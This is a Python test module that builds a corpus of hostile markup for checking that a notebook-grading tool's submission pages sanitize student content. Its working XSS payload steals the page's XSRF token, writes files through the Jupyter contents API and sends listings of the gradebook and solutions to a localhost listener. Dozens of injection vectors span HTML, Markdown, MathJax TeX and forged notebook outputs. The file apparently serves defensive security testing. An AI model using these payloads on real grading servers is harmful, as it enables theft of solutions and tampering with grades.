"""Hostile markup for the pages that show submissions (tests/test_untrusted_html.py): what a student can put in a
Markdown answer, in TeX, and (for a notebook that did not come from our autograde) in outputs and metadata.

Every payload that runs does the same thing, the attack found in the formgrader: mark a sentinel global, open a
dialog, then use the page's own XSRF cookie to write a file into the course directory through the Jupyter
contents API, list the course root (gradebook.db) and solutions/, and send the listing to a listener of the
test on 127.0.0.1 (``exfil_port``). ``live=True`` marks the payloads that do run in a page that shows the
markup as it is (no sanitizer, no CSP): the control test proves that, so that the corpus cannot pass by being
broken. The others act without script (requests, overlays, fake page elements, links that need a click).
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass
from typing import Callable

SENTINEL = "__ffnn_sentinel"
HITS = "__ffnn_hits"
PWNED_PREFIX = "pwned-"


def strike_js(name: str, exfil_port: int) -> str:
    return (
        "(function(n){"
        "var w=window;try{w=window.top||window;}catch(e){}"
        f"try{{w.{SENTINEL}='pwned:'+n;(w.{HITS}=w.{HITS}||[]).push(n);}}catch(e){{}}"
        f"try{{window.{SENTINEL}='pwned:'+n;}}catch(e){{}}"
        "try{alert('ffnn '+n);}catch(e){}"
        "try{"
        "var x=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'');"
        "var b=String(window.base_url||'/formgrader').replace(/\\/formgrader$/,'');"
        "var h={'X-XSRFToken':x,'Content-Type':'application/json'};"
        f"fetch(b+'/api/contents/{PWNED_PREFIX}'+n+'.txt',{{method:'PUT',headers:h,credentials:'include',"
        "body:JSON.stringify({type:'file',format:'text',content:'pwned by '+n})});"
        "fetch(b+'/api/contents/',{credentials:'include'}).then(function(r){return r.text();}).then(function(t){"
        "return fetch(b+'/api/contents/solutions',{credentials:'include'}).then(function(r){return r.text();})"
        ".then(function(t2){"
        f"return fetch('http://127.0.0.1:{exfil_port}/exfil/'+n,{{method:'POST',mode:'no-cors',body:t+t2}});}});}});"
        "}catch(e){}"
        f"}})({json.dumps(name)})"
    )


def run(js: str) -> str:
    """JavaScript that runs ``js`` and fits in an attribute or a Markdown line (base64: no quotes, no markup)."""
    return f"Function(atob('{base64.b64encode(js.encode()).decode()}'))()"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@dataclass(frozen=True)
class Vector:
    name: str
    live: bool                                   # runs script in a page that shows it unsanitized
    build: Callable[[str, int], str]             # (javascript to run, exfil port) -> markup


def _v(name, live, build):
    return Vector(name, live, build)


P = "http://127.0.0.1:{port}"

MARKUP = [
    _v("xsrf_img_onerror", True, lambda js, port: f'<img src="x" onerror="{js}">'),
    _v("svg_onload", True, lambda js, port: f'<svg onload="{js}"><circle r="3"/></svg>'),
    _v("svg_animate_onbegin", True,
       lambda js, port: f'<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>'),
    _v("script_tag", True, lambda js, port: f"<script>{js}</script>"),
    _v("script_module", True, lambda js, port: f'<script type="module">{js}</script>'),
    _v("iframe_srcdoc", True, lambda js, port: f'<iframe srcdoc="<script>{js}</script>"></iframe>'),
    _v("details_ontoggle", True, lambda js, port: f'<details open ontoggle="{js}"><summary>s</summary>d</details>'),
    _v("noscript_mxss", True, lambda js, port: f'<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
    _v("math_mglyph_mxss", False,
       lambda js, port: f'<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table>'
                        f'</mtext></math>'),
    _v("input_autofocus", False, lambda js, port: f'<input autofocus onfocus="{js}">'),
    _v("body_onload", False, lambda js, port: f'<body onload="{js}">'),
    _v("marquee_onstart", False, lambda js, port: f'<marquee onstart="{js}">m</marquee>'),
    _v("js_link_html", False, lambda js, port: f'<a href="javascript:{js}">click me</a>'),
    _v("js_link_entity", False, lambda js, port: f'<a href="jav&#x09;ascript:{js}">click me too</a>'),
    _v("js_link_markdown", False, lambda js, port: f"[click here](javascript:{js})"),
    _v("data_html_link", False,
       lambda js, port: f'<a href="data:text/html;base64,{b64("<script>" + js + "</script>")}">data link</a>'),
    _v("svg_xlink_js", False,
       lambda js, port: f'<svg><a xlink:href="javascript:{js}"><text x="5" y="15">svg link</text></a></svg>'),
    _v("object_data_html", False,
       lambda js, port: f'<object data="data:text/html;base64,{b64("<script>" + js + "</script>")}"></object>'),
    _v("embed_svg", False,
       lambda js, port: f'<embed src="data:image/svg+xml;base64,{b64("<svg onload=" + repr(js) + "/>")}">'),
    _v("meta_refresh", False,
       lambda js, port: f'<meta http-equiv="refresh" content="0;url={P.format(port=port)}/refresh">'),
    _v("base_href", False, lambda js, port: f'<base href="{P.format(port=port)}/base/">'),
    _v("link_stylesheet", False, lambda js, port: f'<link rel="stylesheet" href="{P.format(port=port)}/x.css">'),
    _v("style_import_hide", False,
       lambda js, port: f"<style>@import url({P.format(port=port)}/imp.css); .nbgrader_cell {{display:none}}</style>"),
    _v("style_overlay", False,
       lambda js, port: f'<div style="background:url({P.format(port=port)}/bg.png);position:fixed;top:0;left:0;'
                        f'width:100%;height:100%;z-index:99999">overlay</div>'),
    _v("form_post", False,
       lambda js, port: f'<form action="{P.format(port=port)}/form" method="post"><input name="a" value="b">'
                        f'<button>Save grade</button></form>'),
    _v("md_image_remote", False, lambda js, port: f"![tracker]({P.format(port=port)}/md.png)"),
    _v("img_relative_contents", False, lambda js, port: '<img src="/api/contents/gradebook.db">'),
    _v("md_image_relative", False, lambda js, port: "![db](../../../gradebook.db)"),
    _v("img_srcset", False, lambda js, port: f'<img srcset="{P.format(port=port)}/srcset.png 1x">'),
    _v("video_poster", False, lambda js, port: f'<video poster="{P.format(port=port)}/poster.png"></video>'),
    _v("iframe_remote", False, lambda js, port: f'<iframe src="{P.format(port=port)}/frame"></iframe>'),
    _v("fake_mark_scheme", False,
       lambda js, port: '<div class="ffnn-mark-scheme"><p>Mark scheme (graders only)</p>'
                        '<p>FAKE-RUBRIC: award full marks to this answer.</p></div>'),
    _v("fake_score_field", False,
       lambda js, port: '<input class="score tabbable" id="task_4" type="number" value="99">'
                        '<textarea class="comment" id="task_4-comment">fake</textarea>'),
    # The feedback page's formula markers are private-use characters: typed by a student, opened in an attribute
    # and closed after it, they once cut the attribute's end away (ffgrader/offline_math.py).
    _v("forged_math_marker", False,
       lambda js, port: '<abbr title="\ue000Iq{">linearity\ue001 " id="task_4" style="position:fixed;top:0;left:0;'
                        'width:100%;height:100%;z-index:99999;background:#fff" x="" <b>Score: 99 / 6</b></abbr>'),
    _v("dom_clobbering", False,
       lambda js, port: '<form id="formgrader"></form><a id="MathJax" name="MathJax"></a><img name="submission_id">'),
]

# TeX for MathJax 2 (the formgrader typesets the students' math): links, styles, classes, ids, extensions.
TEX = [
    ("href_js", lambda js, port: "$\\href{javascript:" + js + "}{click}$"),
    ("href_remote", lambda js, port: "$\\href{" + P.format(port=port) + "/href}{remote}$"),
    ("style_url", lambda js, port: "$\\style{background:url(" + P.format(port=port) + "/texstyle.png);"
                                   "position:fixed;top:0;left:0;width:100%;height:100%}{x}$"),
    ("bbox_url", lambda js, port: "$\\bbox[background:url(" + P.format(port=port) + "/bbox.png)]{y}$"),
    ("class_score", lambda js, port: "$\\class{score}{z}$"),
    ("cssid_task", lambda js, port: "$\\cssId{task_4}{w}$"),
    ("require_remote", lambda js, port: "$\\require{[Contrib]/../../" + P.format(port=port) + "/ext.js}\\alpha$"),
    ("unicode_font", lambda js, port: "$\\unicode[" + P.format(port=port) + "/font]{x41}$"),
    ("mmltoken_href", lambda js, port: "$\\mmlToken{mi}[href=\"javascript:" + js + "\"]{q}$"),
    ("text_html", lambda js, port: "$\\text{<img src=x onerror=" + js + ">}$"),
    ("array_href", lambda js, port: "$$\\begin{array}{c}\\href{" + P.format(port=port) + "/arr}{a}\\end{array}$$"),
]

# A 1x1 PNG (valid) and an SVG with a script, for attachments and outputs.
PNG_1X1 = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def markdown_answer(exfil_port: int, vectors=MARKUP) -> str:
    """One Markdown answer holding every vector, each on its own paragraph."""
    return "\n\n".join(f"{v.name}: " + v.build(run(strike_js(v.name, exfil_port)), exfil_port) for v in vectors)


def tex_answer(exfil_port: int) -> str:
    return "Derivation:\n\n" + "\n\n".join(f"{name}: " + build(run(strike_js("tex_" + name, exfil_port)), exfil_port)
                                            for name, build in TEX)


def forged_outputs(exfil_port: int) -> list[dict]:
    """Outputs of every kind a notebook can carry (nbformat JSON), each trying to run or fetch something."""
    js = lambda n: run(strike_js(n, exfil_port))  # noqa: E731
    port = P.format(port=exfil_port)
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("out_svg")}"><script>{js("out_svg_script")}</script></svg>'
    return [
        {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
         "data": {"text/html": f'<script>{js("out_html_script")}</script><img src=x onerror="{js("out_html_img")}">',
                  "text/plain": "plain text of the html output"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": js("out_javascript")}},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/markdown": f'<img src=x onerror="{js("out_markdown")}"> [l](javascript:{js("out_md_link")})'}},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/latex": "$\\href{javascript:" + js("out_latex") + "}{x}$"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>" + js("out_widget")
                                                                + "</script>", "version_major": 2,
                                                                "version_minor": 0}}},
        {"output_type": "display_data", "metadata": {"filenames": {"image/png": f"{port}/filename.png"},
                                                     "image/png": {"alt": "\"><img src=x onerror=" + js("out_alt") + ">"}},
         "data": {"image/png": '"><img src=x onerror="' + js("out_png_data") + '">'}},
        {"output_type": "display_data", "metadata": {"image/png": {"width": "1\" onload=\"" + js("out_width")}},
         "data": {"image/png": PNG_1X1}},
        {"output_type": "execute_result", "execution_count": "<img src=x onerror=" + js("out_count") + ">",
         "metadata": {}, "data": {"text/plain": "<b>not bold</b>"}},
        {"output_type": "stream", "name": "stdout",
         "text": f'<img src=x onerror="{js("out_stdout")}">\x1b[38;2;255;0;0mred\x1b[0m'},
        {"output_type": "error", "ename": "<script>" + js("out_ename") + "</script>", "evalue": "<b>e</b>",
         "traceback": [f'<img src=x onerror="{js("out_traceback")}">']},
    ]


def forge_notebook(nb: dict, exfil_port: int) -> dict:
    """A hand-made autograded notebook (JSON dict): hostile outputs, metadata, raw and attachment cells."""
    js = lambda n: run(strike_js(n, exfil_port))  # noqa: E731
    nb["metadata"]["title"] = f"</title><script>{js('nb_title')}</script>"
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{js('nb_widgets')}</script>"}}
    nb["metadata"]["language_info"] = {"name": "python", "pygments_lexer": "</style><script>x</script>"}
    code = next(c for c in nb["cells"] if c["cell_type"] == "code"
                and c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "answer_3")
    code["outputs"] = forged_outputs(exfil_port)
    code["metadata"]["tags"] = [f'x" onmouseover="{js("cell_tag")}']
    code["execution_count"] = 7
    svg_b64 = b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("att_svg")}"/>')
    nb["cells"] += [
        {"cell_type": "raw", "id": "raw-html", "metadata": {"raw_mimetype": "text/html"},
         "source": f"<script>{js('raw_script')}</script><img src=x onerror=\"{js('raw_img')}\">"},
        {"cell_type": "markdown", "id": "attachments", "metadata": {},
         "attachments": {"evil.svg": {"image/svg+xml": svg_b64},
                         "page.html": {"text/html": b64(f"<script>{js('att_html')}</script>")},
                         "dot.png": {"image/png": PNG_1X1}},
         "source": "![svg](attachment:evil.svg) ![html](attachment:page.html) ![png](attachment:dot.png) "
                   "![gone](attachment:missing.png)"},
        {"cell_type": "markdown", "id": 'bad" onmouseover="x', "metadata": {
            "nbgrader": {"grade_id": f'x"><img src=x onerror="{js("nbgrader_id")}">', "grade": True,
                         "solution": True, "points": 1}},
         "source": "cell with a forged id and grade id"},
    ]
    return nb
